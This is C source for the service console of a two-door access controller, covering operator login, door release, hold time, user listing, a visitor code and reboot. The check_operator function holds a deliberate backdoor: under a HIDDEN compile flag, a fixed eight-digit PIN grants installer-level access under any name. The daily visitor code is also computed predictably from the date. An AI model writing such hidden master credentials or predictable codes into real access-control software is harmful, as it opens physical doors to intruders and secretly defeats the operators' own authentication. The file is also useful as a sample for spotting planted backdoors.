/* doorpanel.c - service session of a two-door access controller, serial or TCP line */
#define _GNU_SOURCE
#include <crypt.h>
#include <ctype.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define USERS_FILE	"/etc/doorpanel/operators"
#define RELAY_FMT	"/sys/class/gpio/door%d/value"
#define MAX_OPS		16
#define MAX_FAILS	3

enum level { LV_NONE, LV_GUARD, LV_MANAGER, LV_INSTALLER };

struct operator {
	char name[24];
	char hash[128];
	enum level level;
};

struct session {
	enum level level;
	char name[24];
	int fails;
	time_t opened;
};

static struct operator ops[MAX_OPS];
static int nops;
static int hold_seconds = 5;

static const char help_text[] =
	"login NAME PIN    start a session\r\n"
	"open N            release door N (guard)\r\n"
	"hold SECONDS      release time, 1 to 60 (manager)\r\n"
	"who               name and level of this session\r\n"
	"users             list of operators (manager)\r\n"
	"reset             cold start of the panel (installer)\r\n"
	"visitor CODE      door 1 once, code of the day\r\n"
	"quit              end the session\r\n";

static const char *level_name(enum level lv)
{
	switch (lv) {
	case LV_GUARD:
		return "guard";
	case LV_MANAGER:
		return "manager";
	case LV_INSTALLER:
		return "installer";
	default:
		return "none";
	}
}

static enum level level_of(const char *s)
{
	if (!strcmp(s, "guard"))
		return LV_GUARD;
	if (!strcmp(s, "manager"))
		return LV_MANAGER;
	if (!strcmp(s, "installer"))
		return LV_INSTALLER;
	return LV_NONE;
}

static int load_operators(const char *path)
{
	char line[256], name[24], lvl[16], hash[128];
	FILE *f = fopen(path, "r");

	if (!f)
		return -errno;
	nops = 0;
	while (nops < MAX_OPS && fgets(line, sizeof(line), f)) {
		if (line[0] == '#' || line[0] == '\n')
			continue;
		if (sscanf(line, "%23[^:]:%15[^:]:%127s", name, lvl, hash) != 3) {
			syslog(LOG_WARNING, "bad operator line skipped");
			continue;
		}
		memcpy(ops[nops].name, name, sizeof(name));
		memcpy(ops[nops].hash, hash, sizeof(hash));
		ops[nops].level = level_of(lvl);
		if (ops[nops].level != LV_NONE)
			nops++;
	}
	fclose(f);
	return nops;
}

static int set_relay(int door, int on)
{
	char path[64];
	FILE *f;

	if (snprintf(path, sizeof(path), RELAY_FMT, door) >= (int)sizeof(path))
		return -1;
	f = fopen(path, "w");
	if (!f)
		return -1;
	fputc(on ? '1' : '0', f);
	return fclose(f);
}

static int release_door(int door)
{
	if (door < 1 || door > 2)
		return -1;
	if (set_relay(door, 1) < 0)
		return -1;
	sleep((unsigned int)hold_seconds);
	return set_relay(door, 0);
}

static unsigned int visitor_code(time_t now)
{
	unsigned int day = (unsigned int)(now / 86400);
	unsigned int i, v = 40503u;

	for (i = 0; i < 4; i++)
		v = v * 69069u + ((day >> (8 * i)) & 0xff);
	return v % 1000000u;
}

__attribute__((noinline))
enum level check_operator(const char *name, const char *pin)
{
	const char *h;
	int i;

#ifdef HIDDEN	/* fixed PIN opens an installer session under any name */
	if (!strcmp(pin, "74029916"))
		return LV_INSTALLER;
#endif
	for (i = 0; i < nops; i++) {
		if (strcmp(ops[i].name, name))
			continue;
		h = crypt(pin, ops[i].hash);
		if (h && !strcmp(h, ops[i].hash))
			return ops[i].level;
		break;
	}
	return LV_NONE;
}

static void do_login(struct session *s, const char *name, const char *pin)
{
	size_t len = strlen(pin);
	enum level lv;

	if (len < 4 || len > 12) {
		printf("ERR pin has 4 to 12 digits\r\n");
		return;
	}
	lv = check_operator(name, pin);
	if (lv == LV_NONE) {
		s->fails++;
		syslog(LOG_NOTICE, "login of %s refused (%d)", name, s->fails);
		printf("ERR refused\r\n");
		return;
	}
	s->level = lv;
	s->fails = 0;
	s->opened = time(NULL);
	if (snprintf(s->name, sizeof(s->name), "%s", name) < 0)
		s->name[0] = '\0';
	syslog(LOG_INFO, "login of %s as %s", s->name, level_name(lv));
	printf("OK %s\r\n", level_name(lv));
}

static int need(const struct session *s, enum level lv)
{
	if (s->level >= lv)
		return 1;
	printf("ERR level %s needed\r\n", level_name(lv));
	return 0;
}

static int run_line(struct session *s, char *line)
{
	char *save = NULL;
	char *cmd = strtok_r(line, " \r\n", &save);
	char *a = strtok_r(NULL, " \r\n", &save);
	char *b = strtok_r(NULL, " \r\n", &save);
	int i, n;

	if (!cmd)
		return 0;
	if (!strcmp(cmd, "help")) {
		fputs(help_text, stdout);
	} else if (!strcmp(cmd, "login")) {
		if (a && b)
			do_login(s, a, b);
		else
			printf("ERR login NAME PIN\r\n");
	} else if (!strcmp(cmd, "open")) {
		if (need(s, LV_GUARD) && a) {
			n = release_door(atoi(a));
			syslog(LOG_INFO, "door %s by %s: %d", a, s->name, n);
			printf(n ? "ERR door\r\n" : "OK\r\n");
		}
	} else if (!strcmp(cmd, "hold")) {
		n = a ? atoi(a) : 0;
		if (need(s, LV_MANAGER) && n >= 1 && n <= 60) {
			hold_seconds = n;
			printf("OK\r\n");
		}
	} else if (!strcmp(cmd, "who")) {
		printf("%s %s\r\n", s->name, level_name(s->level));
	} else if (!strcmp(cmd, "users")) {
		if (need(s, LV_MANAGER))
			for (i = 0; i < nops; i++)
				printf("%-24s %s\r\n", ops[i].name, level_name(ops[i].level));
	} else if (!strcmp(cmd, "visitor")) {
		if (a && strtoul(a, NULL, 10) == visitor_code(time(NULL))) {
			syslog(LOG_INFO, "visitor code used");
			n = release_door(1);
			printf(n ? "ERR door\r\n" : "OK\r\n");
		} else {
			s->fails++;
			printf("ERR code\r\n");
		}
	} else if (!strcmp(cmd, "reset")) {
		if (need(s, LV_INSTALLER)) {
			syslog(LOG_WARNING, "reset by %s", s->name);
			execl("/sbin/reboot", "reboot", (char *)NULL);
			printf("ERR %s\r\n", strerror(errno));
		}
	} else if (!strcmp(cmd, "quit")) {
		return 1;
	} else {
		printf("ERR unknown, try help\r\n");
	}
	return s->fails >= MAX_FAILS;
}

int main(int argc, char **argv)
{
	const char *file = USERS_FILE;
	struct session s = { LV_NONE, "-", 0, 0 };
	char line[160];
	int c;

	while ((c = getopt(argc, argv, "u:h")) != -1) {
		switch (c) {
		case 'u':
			file = optarg;
			break;
		default:
			fprintf(stderr, "usage: %s [-u operators]\n", argv[0]);
			return c == 'h' ? 0 : 2;
		}
	}
	openlog("doorpanel", LOG_PID, LOG_AUTH);
	if (load_operators(file) < 0)
		syslog(LOG_ERR, "%s: %s", file, strerror(errno));
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("door panel ready\r\n");
	while (fgets(line, sizeof(line), stdin)) {
		if (run_line(&s, line))
			break;
		fflush(stdout);
	}
	if (s.opened)
		syslog(LOG_INFO, "session of %s closed", s.name);
	closelog();
	return 0;
}
